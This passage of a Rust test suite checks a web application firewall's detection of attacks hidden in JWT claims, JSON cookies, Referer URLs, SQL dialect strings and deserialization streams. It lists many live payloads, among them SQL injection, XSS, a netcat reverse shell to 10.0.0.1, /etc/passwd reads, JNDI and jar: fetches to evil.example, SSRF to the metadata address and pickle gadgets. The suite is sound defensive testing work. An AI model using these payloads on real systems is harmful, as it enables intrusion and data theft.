    let plain = r#"{"sub":"1234567890"}"#;
    let attacks = [
        jwt_with(
            r#"{"alg":"HS256","kid":"../../dev/null","n":"ЖЖЖЖЖЖЖЖЖЖЖЖ"}"#,
            plain,
        ),
        jwt(r#"{"sub":"-1' or 1=1--","name":"Иван Петров Иванович"}"#),
        jwt(r#"{"sub":"-1 union select username,password from users-- -"}"#),
        jwt(r#"{"kid":"{uname,-a}"}"#),
        jwt_with(
            "{\n\"alg\":\"HS256\",\"kid\":\"' union select 'k'--\"}",
            plain,
        ),
        jwt_with(
            "{\t\"alg\":\"HS256\"}",
            r#"{"kid":"../../../../etc/passwd"}"#,
        ),
        jwt_with(
            "{\r\n\"alg\":\"HS256\"}",
            r#"{"name":"<script>alert(1)</script>"}"#,
        ),
    ];
    assert_tokens(true, &attacks);
    let benign = [
        jwt(r#"{"sub":"42","name":"Иван Петров Иванович","locale":"ru"}"#),
        jwt(r#"{"sub":"u1","name":"山田 太郎","given_name":"太郎"}"#),
        jwt_with("{\n  \"alg\": \"HS256\",\n  \"typ\": \"JWT\"\n}", plain),
        jwt_with(hs, r#"{"user":"alice","role":"user","exp":1700000000}"#),
        // A Google ID token's claims.
        jwt_with(
            r#"{"alg":"RS256","kid":"f5f4bf46e52b31d9b6249f7309ad0038407ed5a8","typ":"JWT"}"#,
            r#"{"iss":"https://accounts.google.com","azp":"1234567890-abc.apps.googleusercontent.com","aud":"1234567890-abc.apps.googleusercontent.com","sub":"110169484474386276334","email":"jane.doe@gmail.com","email_verified":true,"at_hash":"HK6E_P6Dh8Y93mRNtsDB1Q","name":"Jane Doe","picture":"https://lh3.googleusercontent.com/a/ACg8ocJ-x1=s96-c","given_name":"Jane","family_name":"Doe","locale":"en","iat":1700000000,"exp":1700003600}"#,
        ),
        // An Auth0 ID token's claims.
        jwt_with(
            r#"{"alg":"RS256","typ":"JWT","kid":"NjVBRjY5MDlCMUIwNzU4RTA2QzZFMDQ4QzQ2MDAyQjVDNjk1RTM2Qg"}"#,
            r#"{"nickname":"jane.doe","name":"jane.doe@example.com","picture":"https://s.gravatar.com/avatar/5658ffccee7f0ebfda2b226238b1eb6e?s=480&r=pg&d=https%3A%2F%2Fcdn.auth0.com%2Favatars%2Fja.png","updated_at":"2024-01-15T10:20:30.000Z","email":"jane.doe@example.com","email_verified":false,"iss":"https://example.us.auth0.com/","aud":"dBAJ2aXTzbUYOqW0vHq0F7Kx","iat":1705314030,"exp":1705350030,"sub":"auth0|65a4f0c2e5b3a1d2c3f4e5a6","sid":"Xq3n9lKp0cVb1sJ2t4uW5yZ7","nonce":"b2b0c0e3-6b9e-4b6a-8f5e-1c2d3e4f5a6b"}"#,
        ),
    ];
    assert_tokens(false, &benign);
}

/// Where a long text field is sent: query, form, JSON, multipart, cookie.
const LONG_TEXT_PLACES: &[Place] = &[
    Place::Query,
    Place::Form,
    Place::Json,
    Place::Multipart,
    Place::Cookie,
];

/// 20 KiB of words; and of prose with apostrophes and double quotes (a
/// reply quoting someone, a product review).
fn long_words() -> String {
    filler(20 * 1024)
}

fn long_prose() -> String {
    "It's the customer's order, isn't it? She said \"don't ship it\" and we didn't. "
        .repeat(20 * 1024 / 78 + 1)
}

/// Asserts each of `values` is blocked (`expect`) or passes in every long
/// text place; names each value and place that does not.
fn assert_long(expect: bool, values: &[String]) {
    let wrong: Vec<String> = values
        .iter()
        .flat_map(|v| LONG_TEXT_PLACES.iter().map(move |&p| (p, v)))
        .filter(|&(p, v)| common::placed_blocked(p, v) != expect)
        .map(|(p, v)| format!("{p:?}: …{}", &v[v.len().saturating_sub(40)..]))
        .collect();
    let what = if expect { "passed" } else { "blocked" };
    assert!(wrong.is_empty(), "{what}: {wrong:#?}");
}

/// Session 10: an SQL break-out after 16 KiB of text in one field. The
/// SQL detector reads a value as one string pasted after a quote, so it
/// was given only a long value's first window and `<20 KiB>admin'--`
/// passed (after 40 bytes of words it was caught). It now reads the whole
/// value once (`Field::whole`). Prose with apostrophes before the
/// break-out is read too, and passes when benign.
#[test]
fn sql_break_out_after_a_long_text_in_one_field() {
    let break_outs = [
        "admin'--",
        "' OR '1'='1' /*",
        "1' ORDER BY 3--+",
        "' or '1' like '1",
    ];
    // Prose whose apostrophes keep the SQL string open: doubled as SQL
    // escapes them, typographic.
    let prose = long_prose();
    let fillers = [
        long_words(),
        prose.replace('\'', "''"),
        prose.replace('\'', "\u{2019}"),
    ];
    let mut attacks: Vec<String> = fillers
        .iter()
        .flat_map(|f| break_outs.iter().map(move |b| format!("{f} {b}")))
        .collect();
    // The break-out first, the text hidden in an SQL comment.
    attacks.push(format!("1' /* {prose} */ OR '1'='1"));
    attacks.push(format!("admin' /* {} */--", long_words()));
    assert_long(true, &attacks);
    // (Prose with plain apostrophes ends the SQL string at its first
    // one: SQL itself fails to parse the text after it, so a break-out
    // at its end is no injection, as short as it may be.)
    // Benign long values of the same places: prose with apostrophes and
    // quotes, a JSON document kept in a field, a base64 blob.
    let doc = serde_json::json!({
        "items": (0..400)
            .map(|i| serde_json::json!({ "id": i, "name": format!("item {i}"), "note": "it's fine" }))
            .collect::<Vec<_>>()
    })
    .to_string();
    let blob: String =
        "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0MTIzNDU2Nzg5K/8=".repeat(20 * 1024 / 52 + 1);
    assert_long(
        false,
        &[
            long_prose(),
            format!("{} {}", long_prose(), long_words()),
            doc,
            blob,
        ],
    );
}

/// Review of session 10: a claim after the 64th string of a token (keys
/// and values, header included) was never read. Before: passed.
#[test]
fn jwt_claims_past_many_strings() {
    let many: String = (0..40).map(|i| format!(r#""a{i}":"","#)).collect();
    let attacks = [
        jwt(&format!(r#"{{{many}"kid":"../../../../etc/passwd"}}"#)),
        jwt(&format!(r#"{{{many}"sub":"' or 1=1--"}}"#)),
    ];
    assert_tokens(true, &attacks);
    assert_tokens(false, &[jwt(&format!(r#"{{{many}"sub":"alice"}}"#))]);
}

/// Session 11: a cookie whose value is strictly a JSON document (raw or
/// percent-encoded, `consent=%7B%22ads%22%3Afalse%7D`) is read by its
/// structure — each key and string a field — instead of as one text. An
/// attack of every family still blocks wherever it sits in such a cookie:
/// in a string, in a key, nested, and breaking out of the structure (which
/// makes the document not strict JSON, so the value is read whole).
#[test]
fn attacks_inside_a_json_cookie_are_read_in_keys_values_and_break_outs() {
    let attacks = [
        "' OR '1'='1' --",
        "1 UNION SELECT password FROM users",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "$(cat /etc/passwd)",
        "../../../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "*)(uid=*))(|(uid=*",
        "x\r\nSet-Cookie: admin=1",
        "http://169.254.169.254/latest/meta-data/",
        "__proto__",
        "java.lang.Runtime",
    ];
    let cookie = |v: &str| header_blocked("Cookie", format!("theme=dark; c={v}").as_bytes());
    let mut passed = Vec::new();
    for a in attacks {
        let s = serde_json::to_string(a).unwrap();
        let mut shapes = vec![
            format!("{{\"a\":{s}}}"),
            format!("{{{s}:1}}"),
            format!("{{\"ads\":false,\"n\":{{\"b\":[1,{s}]}}}}"),
            format!("[{s},true]"),
            // Break-outs: the attack's own quote or text after the document.
            format!("{{\"a\":\"x\"}}{a}"),
            format!("{{\"a\":\"{a}\"}}"),
        ];
        if !a.contains(';') {
            shapes.push(format!("{{\"a\":{s}}}"));
        }
        for (i, shape) in shapes.iter().enumerate() {
            // Percent-encoded as browsers' consent managers do; the last
            // shape also raw.
            let raw = i == 6;
            let v = if raw {
                shape.clone()
            } else {
                percent_encode(shape)
            };
            if !cookie(&v) {
                passed.push(v);
            }
        }
    }
    assert!(passed.is_empty(), "passed: {passed:#?}");
    // NoSQL operators and prototype pollution as keys of an object.
    for shape in [
        "{\"user\":{\"$ne\":null}}",
        "{\"$where\":\"sleep(5000)\"}",
        "{\"constructor\":{\"prototype\":{\"admin\":true}}}",
    ] {
        assert!(cookie(&percent_encode(shape)), "{shape}");
    }
    // Read by structure (a match names the JSON path); whole as well, as
    // a string is not a plain token (`json_cookie_break_outs_spread_over_several_strings`).
    let cookie = percent_encode("{\"a\":\"<script>alert(1)</script>\"}");
    let h = [
        ("Host", &b"shop.example"[..]),
        ("Cookie", cookie.as_bytes()),
    ];
    let v = inspect_with(&Policy::default(), "GET", "/", "", &h, b"");
    let at = |t: &str| v.matches.iter().any(|m| m.target == t);
    assert!(v.block && at("cookie:$.a") && at("cookie:"), "{v:?}");
}

/// Session 11: JSON cookies of consent managers, analytics and shops pass.
#[test]
fn benign_json_cookies_pass() {
    for shape in [
        "{\"ads\":false,\"stats\":true}",
        "{\"necessary\":true,\"analytics\":false,\"marketing\":false,\"rev\":3,\"consent_date\":\"2024-08-06T18:01:19.234Z\"}",
        "{\"cart\":[{\"sku\":\"SKU-00012\",\"qty\":2,\"name\":\"Trail running shoe, model 3\"}],\"currency\":\"EUR\"}",
        "[\"de\",\"en-US\",\"fr\"]",
        "{\"path\":\"/shop/shoes?color=red&size=42\",\"ts\":1700000000}",
    ] {
        let v = percent_encode(shape);
        assert!(
            !header_blocked("Cookie", format!("c={v}").as_bytes()),
            "{shape}"
        );
    }
}

/// Session 11: a Referer (or Origin) that strictly is an absolute http(s)
/// URL is read as the request's own target is — its path as a path, its
/// query's names and values as arguments — and its path also by the
/// header's own rules, instead of as one header text. An attack of every
/// family the header's rules read still blocks in its query values and
/// names, in its path, and breaking out of the URL grammar (a blank, a raw
/// `<`, quote or brace, a fragment: then the value is read whole, as
/// before). LDAP and SSRF payloads, which no header rule reads, now block
/// in a referer's query (read as arguments); in its path they pass, as
/// before.
#[test]
fn attacks_inside_a_referer_url_are_read_in_query_path_and_break_outs() {
    let attacks = [
        "' OR '1'='1' --",
        "1' UNION SELECT password FROM users--",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "$(cat /etc/passwd)",
        ";cat /etc/passwd",
        "../../../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "x\r\nSet-Cookie: admin=1",
        "java.lang.Runtime.getRuntime().exec('id')",
        "<?php system($_GET['c']); ?>",
    ];
    let mut passed = Vec::new();
    let mut check = |header: &str, url: String| {
        if !header_blocked(header, url.as_bytes()) {
            passed.push(format!("{header}: {url}"));
        }
    };
    for a in attacks {
        let e = percent_encode(a);
        let read_by_structure = [
            format!("https://shop.example.com/catalog?q={e}&page=2"),
            format!("https://shop.example.com/?{e}=1"),
            format!("http://shop.example.com:8080/a/{e}/b"),
            format!("https://shop.example.com/{e}"),
        ];
        for url in read_by_structure {
            check("Referer", url.clone());
            check("Origin", url);
        }
        // Break-outs: the attack's own bytes, outside the URL grammar.
        for url in [
            format!("https://shop.example.com/catalog?q={a}"),
            format!("https://shop.example.com/{a}"),
            format!("https://shop.example.com/#{a}"),
            format!("https://shop.example.com/ {a}"),
        ] {
            check("Referer", url);
        }
    }
    // A line break, escaped once or twice, in a referer's query: read whole
    // (the header's CRLF rule decodes and reads it; no argument rule reads
    // a bare `Foo: bar` line).
    for q in ["a=%0d%0aFoo:%20bar", "a=x%0AFoo:bar", "a=%250d%250aFoo:bar"] {
        check("Referer", format!("https://shop.example.com/?{q}"));
    }
    for a in [
        "*)(uid=*))(|(uid=*",
        "http://169.254.169.254/latest/meta-data/",
    ] {
        let url = format!("https://shop.example.com/catalog?q={}", percent_encode(a));
        check("Referer", url);
    }
    assert!(passed.is_empty(), "passed: {passed:#?}");
    // Read by structure (the match names the URL's part), not whole.
    let url = "https://shop.example.com/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    assert_blocked_at("Referer", url, "referer-args:q");
}

/// Asserts that a `GET /` with one header is blocked, every match at
/// `target`.
fn assert_blocked_at(header: &str, value: &str, target: &str) {
    let h = [("Host", &b"shop.example"[..]), (header, value.as_bytes())];
    let v = inspect_with(&Policy::default(), "GET", "/", "", &h, b"");
    assert!(
        v.block && v.matches.iter().all(|m| m.target == target),
        "{v:?}"
    );
}

/// Session 11: referers and origins browsers send pass.
#[test]
fn benign_referers_pass() {
    assert_header(
        "Referer",
        false,
        &[
            "https://shop.example.com/catalog/shoes?color=red&size=42",
            "https://www.google.com/",
            "https://www.google.com/search?q=trail+running+shoes&oq=trail+running&sourceid=chrome&ie=UTF-8",
            "https://shop.example.com/checkout?step=2&return_to=%2Fcart&utm_source=newsletter&utm_medium=email",
            "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2Fsale&h=AT0abc",
            "http://[2001:db8::1]:8443/admin/users?sort=name&dir=asc",
            "https://de.wikipedia.org/wiki/K%C3%A4se_(Lebensmittel)",
        ],
    );
    assert_header("Origin", false, &["https://shop.example.com", "null"]);
}

/// Session 11: a backslash before a quote, read as MySQL reads it (it
/// escapes the quote: `It\'s me'` is one string) and as standard SQL does
/// (a plain byte: `'x\'` ends at its second quote). Rule 1001 reads a
/// value after `js_decode`, which turned `It\'s` into `It's` and lost the
/// MySQL reading; a break-out is an attack under either reading (the
/// application's database is unknown). Before: score 0 each.
#[test]
fn sql_break_out_past_a_backslash_escaped_quote() {
    assert_placed(
        true,
        EVERY_PLACE,
        &[
            "Mc\\'Donald admin'--",
            "It\\'s me' or 'a'='a",
            "O\\'Neil'; drop table users--",
            "a\\'b' or sleep(5)#",
            "x\\\\\\' or 1=1--",
            "Rock \\'n\\' roll' and 1=1 limit 1#",
        ],
    );
    assert_placed(
        false,
        EVERY_PLACE,
        &[
            "It\\'s a great book",
            "O\\'Brien",
            "Dave\\'s shop (open late)",
            "I\\'m here or there",
            "C:\\Users\\O'Neil\\Documents",
            "{\\\"a\\\":\\\"b\\\",\\\"c\\\":[1,2]}",
            "He said \\\"hi\\\" and left",
        ],
    );
}

/// Session 11: string literals of SQL dialects other than `'…'`: PostgreSQL
/// dollar quoting (`$$…$$`, `$tag$…$tag$`), escape (`E'…'`) and Unicode
/// (`U&'…'`) strings, Oracle's `q'[…]'`, MySQL's character set introducer
/// (`_utf8'…'`), SQL Server's `[name]`. Each was read as words, so a
/// tautology of them was no comparison of literals. Before: score 0 each.
#[test]
fn sql_dialect_string_forms() {
    assert_placed(
        true,
        EVERY_PLACE,
        &[
            "' OR E'a'=E'a'--",
            "' OR q'[a]'=q'[a]'--",
            "x' or nq'{it's}'=nq'{it's}'--",
            "' OR _utf8'a'=_utf8'a'--",
            "' OR U&'a'=U&'a'--",
            "' or [a b]=[a b]--",
        ],
    );
    // A number's context is the whole value.
    assert_placed(
        true,
        &every_place_but(Place::AfterFiller),
        &["1 OR $q$a b$q$=$q$a b$q$", "1 or $$x y$$=$$x y$$"],
    );
    assert_placed(
        false,
        EVERY_PLACE,
        &[
            "solve $$x=1$$ or $$x=2$$",
            "$$a^2 + b^2 = c^2$$",
            "Price $5 or $10",
            "Save $$ today or (select a plan)",
            "N'Djamena or (select another city)",
            "E'tienne's café",
            "X'ian or Xi'an?",
            "[Select] a category or (update filters)",
        ],
    );
}

/// Session 11: UI text with a parenthetical that starts with an SQL word
/// (`or (select one from your library)`) was blocked by the SQL detector
/// (rule 1001) and 1020; a quoted answer after `?` by 1019; a quoted
/// French word by 3025. Each now needs the attack's own context: a
/// subquery of SQL's shape after a value that left its context, a quoted
/// JSON key left open for the query's quote, a spliced word that does not
/// end on a quote. Before: each blocked. The attacks of the same shape
/// stay blocked.
#[test]
fn ui_text_with_sql_words_in_a_parenthetical() {
    assert_placed(
        false,
        EVERY_PLACE,
        &[
            "Upload a photo or (select one from your library)",
            "Choose a file or (select one from gallery)",
            "Pick a size or (select from the chart below)",
            "Enter your email or (update it later in settings)",
            "Sign in with Google or (create an account)",
            "Drag files here or (select files) to upload",
            "Type 'help' or (select an option)",
            "Don't forget: order by Friday or (call us)",
            "Choose a plan and (select the add-ons you need)",
            "Set a reminder or (delete it from the list)",
            "Save as draft or (drop it entirely)",
            "Is 5 > 3 or (select a number)",
            "Select all that apply (or none)",
            "Select from the options below",
            "Do you prefer 'tea' or coffee? 'Tea'",
            "He said 'yes' or 'no'? 'Maybe'",
            "python 'or' operator",
            "l'or ou l'argent ? 'L'or'",
            "difference between 'and' and 'or'? 'and' binds tighter",
        ],
    );
    assert_placed(
        true,
        EVERY_PLACE,
        &[
            "x' or (select password from users limit 1)='a",
            "1' and 1=1 or (select count(*) from users)>0--",
            "' or (select 1 from dual)--",
            "x' or payload ? 'admin'--",
            "x' or payload ? 'admin",
            "' or '1",
            "x' and 'a' or 'b'='b",
            "' or true or '",
            ";'wh'oami",
            "'; select distinct password from users--",
        ],
    );
    assert_placed(
        true,
        &every_place_but(Place::AfterFiller),
        &[
            "1 or (select password from users)",
            "1 and (select one from gallery)",
            "1 or payload ? 'admin'",
        ],
    );
}

/// Session 11: a string literal used as an object inside template or
/// expression-language delimiters — a method called on it or two literals
/// joined — is how a probe builds a string the engine evaluates
/// (`${"z".concat("a")}`); a real template reads variables. Before: score
/// 0 each (rule 9007 is new).
#[test]
fn template_string_building_probes() {
    let places = every_place_but(Place::Cookie);
    assert_placed(
        true,
        &places,
        &[
            "${\"z\".concat(\"a\")}",
            "${'z'.concat('a')}",
            "#{\"z\".concat(\"a\")}",
            "${\"a\".toUpperCase()}",
            "${\"a\"+\"b\"}",
            "*{'a'.concat('b')}",
            "%{\"a\".length()}",
            "{{\"abc\".upper()}}",
            "{{'a'~'b'}}",
            "<%= \"a\".upcase %>",
            "${ ( 'z' ) . replace('z','a') }",
        ],
    );
    assert_placed(
        false,
        EVERY_PLACE,
        &[
            "${firstName} ${lastName}",
            "{{ product.title | upcase }}",
            "{{ 'Hello' | append: ' world' }}",
            "Total: ${price.toFixed(2)}",
            "Hello ${name}, your order #{order.id} is ready",
            "Say \"hi\".concat later",
            "{{ user.name }} ({{ user.email }})",
            "'a' + 'b' = 'ab'",
        ],
    );
    // Jinja / Ansible: a literal's method called on a variable is a real
    // template, not a probe building a string: 9007 stays quiet (it fired
    // on these in its first version). Rule 9004, older, still scores a
    // method call inside a template expression in user input.
    for v in [
        "{{ ', '.join(tags) }}",
        "\"{{ ','.join(groups['web']) }}\"",
        "{{ '-'.join(item.path.split('/')) }}",
    ] {
        let v9007 = common::verdict(&format!("q={}", common::percent_encode(v)), None, b"");
        assert!(v9007.matches.iter().all(|m| m.rule_id != 9007), "{v}");
    }
}

/// Whether a GET of `path` is blocked.
fn path_blocked(path: &str) -> bool {
    common::blocked("GET", path, "", &[("Host", b"shop.example")], b"")
}

/// Session 11: a JSON Web Token in a segment of the request path (a
/// password-reset or e-mail-verification link: `/reset/<token>`,
/// `/verify/<token>/confirm`) was never read: the extractor builds path
/// segments only for paths with suspicious bytes, and a token has none.
/// The JWT readers now read the request path, each segment a candidate.
/// Before: score 0 each.
#[test]
fn attacks_inside_jwt_claims_in_the_path() {
    for (expect, claims) in [(true, JWT_ATTACK_CLAIMS), (false, JWT_BENIGN_CLAIMS)] {
        for c in claims {
            let t = jwt(c);
            for path in [
                format!("/reset/{t}"),
                format!("/verify/{t}/confirm"),
                format!("/api/v1/links/{t};lang=en"),
            ] {
                assert_eq!(path_blocked(&path), expect, "{path} ({c})");
            }
        }
    }
    // Paths holding `ey` and dots but no token pass.
    for path in [
        "/keys/eyeliner.v2/index.html",
        "/money/ey.js",
        "/static/eyJ.css",
    ] {
        assert!(!path_blocked(path), "{path}");
    }
}

/// Session 11 (adversarial pass): bash's ANSI-C quoting `$'…'` decodes its
/// escapes (`\xHH`, octal, `\u`), so a command word or a stored command can
/// be written in escapes: `;X=$'uname\x20-a'&&$X`. The shell reader took
/// `$'` for a `$` that starts no variable and stopped (the shell rules do
/// not read cookies). Before: score 0.
#[test]
fn a_command_in_ansi_c_quoting() {
    assert_placed(
        true,
        &every_place_but(Place::Cookie),
        &[
            ";X=$'uname\\x20-a'&&$X",
            ";$'\\x69\\x64'",
            "|$'\\167\\150\\157\\141\\155\\151'",
            "a;$'\\u0069d'",
            "x&&$'who'ami",
        ],
    );
    assert_placed(
        false,
        EVERY_PLACE,
        &[
            "Costs $'5' today",
            "He wrote $'hello\\nworld' in bash",
            "$'\\x41BC'",
            "a=$'x'; b=$'y'",
        ],
    );
}

/// Session 11 (adversarial pass): Java's `jar:` URL wraps another URL
/// (`jar:http://host/x.jar!/entry`): a fetcher given it downloads and
/// opens the archive. Rule 8003 listed `jar://` only. Before: score 0.
#[test]
fn a_jar_url_wrapping_another_url() {
    assert_placed(
        true,
        &every_place_but(Place::AfterFiller),
        &[
            "jar:http://evil.example/x.jar!/",
            "jar:https://evil.example/a.zip!/config.xml",
            "jar:file:///tmp/upload.zip!/shell.jsp",
        ],
    );
    assert_placed(
        false,
        EVERY_PLACE,
        &[
            "jar: glass, 500 ml",
            "Mason jar:http links are in the notes",
            "jar:lid",
        ],
    );
}

/// Session 11 (waf-mend): a strict JSON cookie whose break-out uses the
/// document's own quotes, colons and commas as its text, spread over
/// several strings — none an attack alone: `{"":" or ","":"=","":" -- "}`
/// read in double quotes is `"{":" or ":":"=":":" -- "}"`, a MySQL
/// break-out; `["or","like","or"]` (plain tokens only) is `"[" or ","
/// like "," or "]"`, a condition forced true. The whole value was read
/// before the structured reading (6c57ab8: each blocked); the structured
/// reading alone let the first shapes through. Now a document holding a
/// key or string that is not a plain token, or an SQL word or `-`, is also
/// read whole. XSS and shell pieces spread the same way stay blocked.
#[test]
fn json_cookie_break_outs_spread_over_several_strings() {
    let shapes = [
        r#"{"":" or ","":"=","":" -- "}"#,
        r##"["x"," or ","=","#"]"##,
        r#"["or","like","or"]"#,
        r#"{"or":"or"}"#,
        r#"{"or":"--"}"#,
        // The words and the `-` hidden by JSON escapes (final review).
        r#"["\u006fr","\u006cike","\u006fr"]"#,
        r#"{"\u006fr":"\u002d\u002d"}"#,
        r#"["<svg","onload=alert(1)>"]"#,
        r#"["<scr","ipt>alert(1)</scr","ipt>"]"#,
        r#"{"a":"<img src=x ","b":" onerror=alert(1)>"}"#,
        r#"{"a":"x;","b":"cat /etc/hosts"}"#,
        r#"{"a":"|","b":"nc -e /bin/sh 10.0.0.1 4444"}"#,
    ];
    let mut passed = Vec::new();
    for shape in shapes {
        for v in [shape.to_string(), percent_encode(shape)] {
            if !header_blocked("Cookie", format!("theme=dark; c={v}").as_bytes()) {
                passed.push(v);
            }
        }
    }
    assert!(passed.is_empty(), "passed: {passed:#?}");
}

/// Session 11 (waf-mend): an operator's exclusion on the whole structured
/// value — `header:referer`, `header:origin`, `cookie:NAME` — still covers
/// the hits in the parts read by structure (`referer-args:q`,
/// `referer-path`, `referer-path:N`, `cookie:NAME$.a`), as it covered the
/// whole value read as one text before (6c57ab8). An exclusion on another
/// target does not.
#[test]
fn exclusions_on_a_structured_value_cover_its_parts() {
    let xss = percent_encode("<script>alert(document.cookie)</script>");
    let sql = percent_encode("' OR '1'='1' --");
    let cases = [
        (
            "Referer",
            "header:referer",
            format!("https://shop.example.com/s?q={xss}"),
        ),
        (
            "Referer",
            "header:referer",
            format!("https://shop.example.com/?{sql}=1"),
        ),
        (
            "Referer",
            "header:referer",
            format!("https://shop.example.com/a/{xss}/b"),
        ),
        (
            "Origin",
            "header:origin",
            format!("https://shop.example.com/{sql}"),
        ),
        (
            "Cookie",
            "cookie:prefs",
            percent_encode(r#"{"a":"<script>alert(1)</script>"}"#),
        ),
        (
            "Cookie",
            "cookie:prefs",
            percent_encode(r#"{"a":{"b":["x' OR '1'='1' --"]}}"#),
        ),
        (
            "Cookie",
            "cookie:prefs",
            r#"{"":" or ","":"=","":" -- "}"#.to_string(),
        ),
    ];
    for (header, whole, value) in cases {
        let value = if header == "Cookie" {
            format!("theme=dark; prefs={value}")
        } else {
            value
        };
        let h = [("Host", &b"shop.example"[..]), (header, value.as_bytes())];
        let verdict = |policy: &Policy| inspect_with(policy, "GET", "/", "", &h, b"");
        let open = verdict(&Policy::default());
        assert!(open.block, "{header}: {value}: {open:?}");
        // The families that fired, each excluded on `target`.
        let excluding = |target: &str| Policy {
            exclusions: open
                .matches
                .iter()
                .map(|m| Exclusion {
                    rule_id: None,
                    family: Some(m.family),
                    target: Some(target.to_string()),
                    path_prefix: None,
                })
                .collect(),
            ..Policy::default()
        };
        let excluded = verdict(&excluding(whole));
        assert!(
            excluded.score == 0 && excluded.matches.is_empty(),
            "{header}: {value}: excluded on {whole}: {excluded:?}"
        );
        let other = if header == "Cookie" {
            "cookie:theme"
        } else {
            "header:user-agent"
        };
        assert!(
            verdict(&excluding(other)).block,
            "{header}: {value}: excluded on {other}"
        );
    }
}

/// Session 12: deserialization streams of the other platforms — a .NET
/// BinaryFormatter stream (base64 `AAEAAAD/////`), an ObjectStateFormatter
/// object in binary (`/wEy…`), a Json.NET type key naming a `System` type that
/// starts processes or reads XAML, a fastjson/Jackson type key or default-typing array naming a Java class, a
/// Python pickle importing a command module (protocol 0 raw or in base64,
/// protocol 2–5 in base64). Before: each passed (rules 3036–3038, 7014). A
/// stream is a whole value: not looked for after 20 KiB of text.
#[test]
fn deserialization_streams_of_dotnet_java_and_python() {
    let attacks = [
        "AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3IsIFZlcnNpb249My4wLjAuMA==",
        "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAASVN5c3RlbSwgVmVyc2lvbj00LjAuMC4w",
        r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}"#,
        r#"{"__type":"System.Diagnostics.Process, System","StartInfo":{"FileName":"cmd"}}"#,
        r#"{"@type":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://x.example/a"}"#,
        r#"["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://x.example/a"}]"#,
        r#"{"@class":"ch.qos.logback.core.db.DriverManagerConnectionSource","url":"jdbc:h2:mem:"}"#,
        // fastjson's descriptor spellings and an escaped key (review of the round).
        r#"{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://x.example:1099/a","autoCommit":true}"#,
        r#"{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"rmi://x.example/a"}"#,
        r#"{"\u0040type":"oracle.jdbc.connector.OracleManagedConnectionFactory","xaDataSourceName":"rmi://x.example/a"}"#,
        "cos\nsystem\n(S'id'\ntR.",
        "csubprocess\ncheck_output\n(S'id'\ntR.",
        "Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu",
        "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
        "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
    ];
    let whole_value = every_place_but(Place::AfterFiller);
    assert_placed(true, &whole_value, &attacks);
    let benign = [
        // A page's own ViewState (LosFormatter of a Pair) and an ordinary base64 blob.
        "/wEPDwUKLTM0MjUyODc0Nw9kFgICAw9kFgICAQ8PFgIeBFRleHQFBUhlbGxvZGRk",
        "AAAAAAAAAAAAAAAAAAAAAA==",
        // Json.NET typing of the application's own and collection types.
        r#"{"$type":"Shop.Models.Order, Shop","Lines":[]}"#,
        r#"{"$type":"System.Collections.Generic.List`1[[System.String, mscorlib]], mscorlib","$values":["a"]}"#,
        // JSON-LD and protobuf Any types, a Java class named in prose.
        r#"{"@type":"Product","name":"Canvas tote"}"#,
        r#"{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"QUOTA"}"#,
        r#"["com.example.Events", "v2"]"#,
        "The fix is in org.apache.commons.lang3.StringUtils, see the changelog",
        // Hex digests and ordinary text with the words.
        "aced00051f2c9e8d7b6a5c4d3e2f10a9b8c7d6e5",
        "cos\nsin\ntan",
        "cos\nsin\n(x + y)",
        "macOS system settings",
        "gASVHQ",
    ];
    assert_placed(false, &whole_value, &benign);
    // A JSON body that is the typed object itself.
    for body in [
        r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}"#,
        r#"{"@type":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://x.example/a"}"#,
    ] {
        assert!(json_blocked(body), "json body passed: {body}");
    }
    assert!(!json_blocked(r#"{"@type":"Product","name":"tote"}"#));
}

/// Session 12: response splitting behind the line breaks header writers make
/// of other characters — U+2028/U+2029, and a code point whose low byte is CR
/// or LF (`嘊` U+560A, `č` U+010D: a writer keeping one byte per character sends
/// 0x0A/0x0D) — and the security headers an attacker injects
/// (`Access-Control-Allow-Origin`, `X-XSS-Protection: 0`).
/// Before: passed in form, JSON, multipart and cookie (rule 12007).
#[test]
fn response_splitting_behind_unicode_line_breaks() {
    let attacks = [
        "a\u{2029}Location: http://evil.example/",
        "a\u{2028}Location: //evil.example/",
        "%E2%80%A9Location:%20http://evil.example",
        "x\u{560a}\u{560d}Set-Cookie: sid=attacker",
        "%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection",
        "a\u{010d}\u{010a}Set-Cookie: x=y",
        "%0d%0aAccess-Control-Allow-Origin:%20*",
        "x\r\nAccess-Control-Allow-Credentials: true",
        "%0D%0AX-XSS-Protection:0%0D%0A%0D%0A<svg onload=alert(1)>",
    ];
    assert_placed(true, EVERY_PLACE, &attacks);
    let benign = [
        "最上Location: Shinjuku",
        // 上 U+4E0A and 不 U+4E0D end in 0x8A/0x8D: CJK text, not a line break.
        "加上 Access-Control-Allow-Origin: *",
        "这个不Location: http://example.com/",
        "请加上Access-Control-Allow-Credentials: true 的说明",
        "嘊 set cookie recipe",
        "Line one\u{2028}Location of the shop: Main St",
        "Notes:\nContent-Type is set by the server",
        "Subject: hello\nAccess control list updated",
